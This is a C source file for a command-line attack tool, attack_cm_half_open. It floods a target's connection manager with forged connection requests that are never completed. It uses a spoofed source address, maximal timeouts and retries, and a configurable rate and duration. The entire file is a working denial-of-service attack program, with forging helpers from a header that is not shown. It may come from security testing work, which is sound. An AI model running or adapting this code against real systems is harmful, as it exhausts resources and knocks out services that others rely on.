/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Requests for connections that their sender never completes, with the longest timeout and most
 * retries that a REQ can name.
 *
 *   attack_cm_half_open FROM-ADDRESS TO-ADDRESS PORT PER-SECOND SECONDS
 */
#include "cm_forge.h"

enum { BURST = 50 };

int main(int argc, char **argv)
{
	struct forger forger;

	if (argc != 6 || !forger_open(&forger, argv[1], argv[2]))
		return 2;
	uint16_t port = (uint16_t)strtoul(argv[3], NULL, 10);
	uint32_t per_second = (uint32_t)strtoul(argv[4], NULL, 10);
	uint32_t count = per_second * (uint32_t)strtoul(argv[5], NULL, 10);

	for (uint32_t i = 0; i < count; i++) {
		struct cm_message req = forge_req(&forger, 0x10000 + i, port);

		forger_send(&forger, &req);
		if (i % BURST == 0)
			nanosleep(&(struct timespec){0, (long)(1000000000ull * BURST / per_second)},
				NULL);
	}
	return 0;
}
